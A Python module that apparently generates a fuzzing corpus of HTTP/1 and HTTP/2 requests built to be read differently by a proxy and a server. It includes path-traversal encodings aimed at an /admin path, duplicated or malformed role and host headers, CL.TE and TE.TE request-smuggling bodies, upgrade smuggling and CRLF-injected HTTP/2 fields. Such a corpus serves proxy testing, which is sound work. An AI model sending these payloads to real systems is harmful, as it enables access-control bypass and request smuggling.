"""Requests that mean one thing to a proxy and another to a server: `OK` is a path that is allowed, `NO` is not."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

OK, NO, HOST, OTHER = "/public/a", "/admin", "app.example.com", "evil.example.org"
ROLE = "x-role: user"
_NEXT = f"GET {NO} HTTP/1.1\r\nhost: {OTHER}\r\nx-role: admin\r\n\r\n"

_SEPARATORS = (
    *(
        "/",
        "//",
        "/./",
        "/%2e/",
        "%2f",
        "%2F",
        "%5c",
        "%5C",
        "\\",
        "/\\",
        "%252f",
        "%c0%af",
        "%ef%bc%8f",
        "/;/",
        "/;a=b/",
    ),
    *(
        "/%3b/",
        "/.;/",
        "/%00/",
        "/%09/",
        "/%0a/",
        "/%0d%0a/",
        "/%20/",
        "/ /",
        "/\x0b/",
        "/\x80/",
        "/\xff/",
        "/#/",
        "/?/",
    ),
)
_UP = (
    *(
        "..",
        "%2e%2e",
        ".%2e",
        "%2E.",
        "..;",
        "..;a=b",
        "%2e%2e;x",
        "..%3b",
        "..%00",
        "..%20",
        "..%09",
        "...",
        "%252e%252e",
    ),
    *(".\u2025".encode("utf-8").decode("latin-1"), "..\\", "..%5c", "..#", "..?", "%c0%ae%c0%ae", "..\x00", "..\xff"),
)
_ENDINGS = (
    *(
        ";.css",
        ";/a.css",
        ";a=/x.css",
        "%3b.css",
        "%3B.css",
        "%00.css",
        "%23.css",
        "%3f.css",
        "#.css",
        "?.css",
        "?/x.css",
    ),
    *(
        "\\.css",
        "%5c.css",
        "%2f.css",
        "/.css",
        "/..;/x.css",
        ";.css/",
        "\x00.css",
        "\xff.css",
        "%ff.css",
        "%0a.css",
        "%.css",
    ),
)
_HEADERS = (
    *("x-role: user\r\nx-role: admin", "x-role: admin\r\nx-role: user", "x-role: user,admin", "x-role: admin,user"),
    *(
        "x-role: user, admin",
        "x-role: admin\r\nX-ROLE: user",
        "x-role: user\r\nx_role: admin",
        "x_role: admin\r\nx-role: user",
    ),
    *(
        "x-role: user\r\n admin",
        "x-role: user\r\n\tadmin",
        "x-role:\r\n user",
        "x-role : user",
        "x-role\t: user",
        " x-role: user",
    ),
    *(
        "x-role: user\x00admin",
        "x-role: user\xff",
        "x-role: \xffuser",
        "x-role: User",
        "x-role: user;q=1",
        "x-role: user\r\nx-role:",
    ),
    *(
        "x-role: user\rx-role: admin",
        "x-role: user\nx-role: admin",
        "x-role: admin\nx-role: user",
        "x-role: user\x0b",
        "x-role",
    ),
    *(
        "x-role: user\r\nconnection: x-role",
        "connection: close, x-role\r\nx-role: user",
        "x-role\x00: user",
        "x-r\xf6le: user",
    ),
    *(
        ": x\r\nx-role: user",
        "x-role: user\r\nx-role: user",
        "x_role: user",
        "x-role:user",
        'x-role: "user"',
        "x-role: us%65r",
    ),
)
_HOSTS = (
    *(
        f"host: {HOST}\r\nhost: {OTHER}",
        f"host: {OTHER}\r\nhost: {HOST}",
        f"host: {HOST}\r\nHOST: {OTHER}",
        f"host: {HOST},{OTHER}",
    ),
    *(
        f"host: {HOST}@{OTHER}",
        f"host: {OTHER}@{HOST}",
        f"host: {HOST}:80@{OTHER}",
        f"host: {HOST} {OTHER}",
        f"host: {HOST}/{OTHER}",
    ),
    *(
        f"host: {HOST}\r\n {OTHER}",
        f"host : {HOST}\r\nhost: {OTHER}",
        f"host: {HOST}\x00{OTHER}",
        f"host: {HOST}#{OTHER}",
        "host:",
    ),
    *(
        f"host: {HOST}:{OTHER}",
        f"host: {HOST}:99999",
        f"host: {HOST}:",
        f"host: {HOST}..",
        f"host: .{HOST}",
        f"host: {HOST}%00",
        "x: y",
    ),
    *(
        f"host: {HOST.upper()}",
        f"host: {HOST}:80",
        f"host: {HOST}.",
        f"host: {HOST}.:80",
        f"host: {HOST}?{OTHER}",
        f"host: {HOST}\\{OTHER}",
    ),
    *(
        f"host: {OTHER}\nhost: {HOST}",
        f"host: {HOST}\nhost: {OTHER}",
        f"host: {OTHER}\r\nx-forwarded-host: {HOST}",
        f"host: {HOST}\xff",
    ),
)
_METHODS = (
    "get",
    "Get",
    "GET ",
    " GET",
    "GET\t",
    "GETX",
    "POST",
    "DELETE",
    "CONNECT",
    "TRACE",
    "OPTIONS",
    "PRI",
    "G\xcbT",
    "HEAD",
    "GET\x00",
)
_TARGETS = (
    *(
        f"http://{HOST}{OK}",
        f"http://{OTHER}{OK}",
        f"http://{HOST}{NO}",
        f"HTTP://{OTHER}{OK}",
        f"http://{HOST}@{OTHER}{OK}",
    ),
    *(
        f"http://{OTHER}",
        f"https://{OTHER}{OK}",
        f"//{OTHER}{OK}",
        f"{HOST}:80",
        "*",
        "",
        "public/a",
        f"http:/{OTHER}{OK}",
        f"http:{OK}",
    ),
    *(
        f"http://{OTHER}#{HOST}{OK}",
        f"http://{OTHER}?{OK}",
        f"http://{OTHER}\\{HOST}{OK}",
        f"ftp://{OTHER}{OK}",
        f"http://{HOST}{OK}/../..{NO}",
    ),
)
_LENGTHS = (
    *(
        "content-length: 0\r\ncontent-length: {0}",
        "content-length: {0}\r\ncontent-length: 0",
        "content-length: 0, {0}",
        "content-length: {0},0",
    ),
    *(
        "content-length: +0",
        "content-length: -1",
        "content-length: 0x0",
        "content-length: 0 ",
        "content-length : 0",
        "content-length: 0\x00",
    ),
    *(
        "content-length: 00\r\nContent-Length: 0{0}",
        "content_length: {0}",
        "content-length:\r\n 0",
        "content-length: 1e1",
        "content-length: 0;",
    ),
    *("content-length: 99999999999999999999", "content-length:", "content-length: 0\ncontent-length: {0}"),
)
_CODINGS = (
    *(
        "chunked",
        "Chunked",
        " chunked",
        "\tchunked",
        "chunked ",
        "xchunked",
        "chunkedx",
        "chunked, identity",
        "identity, chunked",
        "gzip, chunked",
    ),
    *(
        "identity",
        "chunked\x0b",
        "\x0bchunked",
        '"chunked"',
        "chunked;q=1",
        "chunked, chunked",
        "\r\n chunked",
        ",chunked",
        "chu\x00nked",
        "cow",
    ),
)
_CODING_NAMES = (
    "transfer-encoding: ",
    "Transfer-Encoding : ",
    "transfer_encoding: ",
    "x: y\ntransfer-encoding: ",
    "transfer-encoding\t:",
    " transfer-encoding: ",
)
_CHUNKS = (
    "0\r\n\r\n",
    "0;x\r\n\r\n",
    "0\n\n",
    "00\r\n\r\n",
    "0x0\r\n\r\n",
    "0\r\nhost: x\r\n\r\n",
    "0\r\n",
    "-0\r\n\r\n",
    "0 \r\n\r\n",
    "0;\n\r\n\r\n",
    "1\r\nab\r\n0\r\n\r\n",
)
_CHUNKED = "transfer-encoding: chunked\r\n\r\n0\r\n\r\n"
_WHOLE = (
    f"GET {OK} HTTP/1.1\nhost: {HOST}\n{ROLE}\n\n",
    f"GET {OK} HTTP/1.1\rhost: {HOST}\r{ROLE}\r\r",
    f"\r\n\r\nGET {OK} HTTP/1.1\r\nhost: {HOST}\r\n{ROLE}\r\n\r\n",
    f"GET {OK} HTTP/1.0\r\nhost: {HOST}\r\n{ROLE}\r\n\r\n" + _NEXT,
    f"GET {OK} HTTP/1.0\r\nhost: {HOST}\r\nconnection: keep-alive\r\n{ROLE}\r\n\r\n" + _NEXT,
    f"GET {OK} HTTP/1.0\r\n{ROLE}\r\n\r\n",
    f"POST {OK} HTTP/1.0\r\nhost: {HOST}\r\n{ROLE}\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n" + _NEXT,
    f"GET {OK} HTTP/1.0\r\nhost: {HOST}\r\n{ROLE}\r\ncontent-length: {len(_NEXT)}\r\n\r\n" + _NEXT,
    f"GET {OK}\r\n\r\n",
    f"GET {OK} HTTP/0.9\r\n\r\n",
    f"GET {OK} HTTP/2.0\r\nhost: {HOST}\r\n{ROLE}\r\n\r\n",
    f"GET {OK} HTTP/1.1 HTTP/1.1\r\nhost: {HOST}\r\n{ROLE}\r\n\r\n",
    f"GET {OK} HTTP/1.1\r\nhost: {HOST}\r\n{ROLE}\r\n"
    + "upgrade: h2c\r\nconnection: upgrade, http2-settings\r\nhttp2-settings: AAA\r\n\r\n"
    + _NEXT,
    f"GET {OK} HTTP/1.1\r\nhost: {HOST}\r\n{ROLE}\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n" + _NEXT,
    f"GET {OK} HTTP/1.1\r\nhost: {HOST}\r\n{ROLE}\r\nexpect: 100-continue\r\ncontent-length: {len(_NEXT)}\r\n\r\n"
    + _NEXT,
    f"GET {OK} HTTP/1.1\r\nhost: {HOST}\r\n{ROLE}\r\ncontent-length: {len(_NEXT)}\r\n\r\n" + _NEXT,
    f"GET {OK} HTTP/1.1\r\nhost: {HOST}\r\n{ROLE}\r\n\r\n" + _NEXT,
)


def raw() -> Iterator[bytes]:
    """Requests of HTTP/1, as bytes."""
    for text in (*_texts(), *upgrades()):
        yield text.encode("latin-1")


def upgrades() -> Iterator[str]:
    """Requests to go on as something else, and what follows as if that were so; servers may take it for a request."""
    for kind in (
        "websocket",
        "WebSocket",
        "websocket, h2c",
        "h2c, websocket",
        "websocket\r\nupgrade: h2c",
        "websocket/13",
    ):
        for connection in ("upgrade", "keep-alive, Upgrade", "upgrade\r\nconnection: close", "x"):
            for body in ("\r\n" + _NEXT, f"content-length: {len(_NEXT)}\r\n\r\n" + _NEXT, _CHUNKED + _NEXT):
                fields = f"{ROLE}\r\nupgrade: {kind}\r\nconnection: {connection}"
                yield f"GET {OK} HTTP/1.1\r\nhost: {HOST}\r\n{fields}\r\n{body}"


def _request(
    target: str = OK, *, method: str = "GET", host: str = f"host: {HOST}", fields: str = ROLE, body: str = ""
) -> str:
    return f"{method} {target} HTTP/1.1\r\n{host}\r\n{fields}\r\n\r\n{body}"


def paths() -> Iterator[str]:
    """Targets that some server takes for `NO`."""
    for separator, up in product(_SEPARATORS, _UP):
        yield f"/public{separator}{up}/admin"
    for separator, up, second in product(("/", "//"), _UP, ("%2f", "\\", "//")):
        yield f"/public{separator}{up}{second}admin"
    for separator in _SEPARATORS:
        yield f"{separator}admin"
        yield f"/public/a{separator}admin"
    for ending in _ENDINGS:
        yield NO + ending


def _texts() -> Iterator[str]:
    yield _request()
    yield from map(_request, paths())
    yield from map(_request, _TARGETS)
    for each in _HEADERS:
        yield _request(fields=each)
    for each in _HOSTS:
        yield _request(host=each)
    for each in _METHODS:
        yield _request(method=each)
    for each in _LENGTHS:
        yield _request(method="POST", fields=f"{ROLE}\r\n{each.format(len(_NEXT))}", body=_NEXT)
        yield _request(fields=f"{ROLE}\r\n{each.format(len(_NEXT))}", body=_NEXT)
    for name, coding in product(_CODING_NAMES, _CODINGS):
        fields = f"{ROLE}\r\ncontent-length: {5 + len(_NEXT)}\r\n{name}{coding}"
        yield _request(method="POST", fields=fields, body="0\r\n\r\n" + _NEXT)  # CL.TE
        yield _request(
            method="POST", fields=f"{ROLE}\r\ntransfer-encoding: chunked\r\n{name}{coding}", body="0\r\n\r\n" + _NEXT
        )  # TE.TE
        yield _request(method="POST", fields=f"{ROLE}\r\n{name}{coding}", body="0\r\n\r\n" + _NEXT)
    for chunk in _CHUNKS:
        yield _request(method="POST", fields=f"{ROLE}\r\ntransfer-encoding: chunked", body=chunk + _NEXT)
        size = f"{len(_NEXT):x}\r\n{_NEXT}\r\n"
        yield _request(method="POST", fields=f"{ROLE}\r\ntransfer-encoding: chunked", body=size + chunk + _NEXT)
    yield from _WHOLE


def frames() -> Iterator[list[tuple[bytes, bytes]]]:
    """Requests of HTTP/2, as lists of headers."""
    for text in paths():
        yield _frame(path=text)
    for value in (
        "user\r\nx-role: admin",
        "user\nx-role: admin",
        "user\rx",
        "user\0admin",
        "user\xff",
        "user,admin",
        " user",
        "user ",
    ):
        yield _frame(("x-role", value))
    for smuggled in (f"a\r\n\r\n{_NEXT}", f"a\n\n{_NEXT}", f"0\r\n\r\n{_NEXT}"):
        yield _frame(("x-role", "user"), ("x-a", smuggled))
        yield _frame(("x-role", "user"), (f"x-a: b\r\n\r\n{_NEXT}", "x"))
        yield _frame(("x-role", "user"), path=f"{OK} HTTP/1.1\r\nhost: {HOST}\r\n{smuggled}")
        yield _frame(("x-role", "user"), method=f"GET {OK} HTTP/1.1\r\n{smuggled}")
        yield _frame(("x-role", "user"), host=f"{HOST}\r\n{smuggled}")
    for field in (
        *(
            ("host", OTHER),
            ("Host", OTHER),
            ("host", HOST),
            ("X-Role", "admin"),
            ("x_role", "admin"),
            ("x-role", "admin"),
            (":path", NO),
        ),
        *(
            (":authority", OTHER),
            (":method", "POST"),
            (":x", "y"),
            ("connection", "x-role"),
            ("transfer-encoding", "chunked"),
            ("", "x"),
        ),
        *(
            ("content-length", "0"),
            ("content-length", "7"),
            ("te", "chunked"),
            ("upgrade", "h2c"),
            ("x-role ", "admin"),
            ("x-role:", "admin"),
        ),
        *(
            ("cookie", "a\r\nx-role: admin"),
            ("keep-alive", "1"),
            ("proxy-connection", "x"),
            (":protocol", "websocket"),
            (":scheme", "ftp"),
        ),
    ):
        yield _frame(("x-role", "user"), field)
        yield [
            *_frame(),
            *((name.encode("latin-1"), value.encode("latin-1")) for name, value in (field, ("x-role", "user"))),
        ]
    for host in (
        OTHER,
        HOST.upper(),
        f"{HOST}:80",
        f"{HOST}.",
        f"{HOST}@{OTHER}",
        f"{OTHER}@{HOST}",
        f"{HOST},{OTHER}",
        f"{HOST} {OTHER}",
        "",
        f"{HOST}/x",
    ):
        yield _frame(("x-role", "user"), host=host)
        yield _frame(("x-role", "user"), ("host", HOST), host=host)
    for method in _METHODS:
        yield _frame(("x-role", "user"), method=method)
    for target in _TARGETS:
        yield _frame(("x-role", "user"), path=target)


def _frame(
    *fields: tuple[str, str], path: str = OK, host: str = HOST, method: str = "GET"
) -> list[tuple[bytes, bytes]]:
    pseudo = ((":method", method), (":scheme", "http"), (":authority", host), (":path", path))
    given = fields or (("x-role", "user"),)
    return [(name.encode("latin-1"), value.encode("latin-1")) for name, value in (*pseudo, *given)]
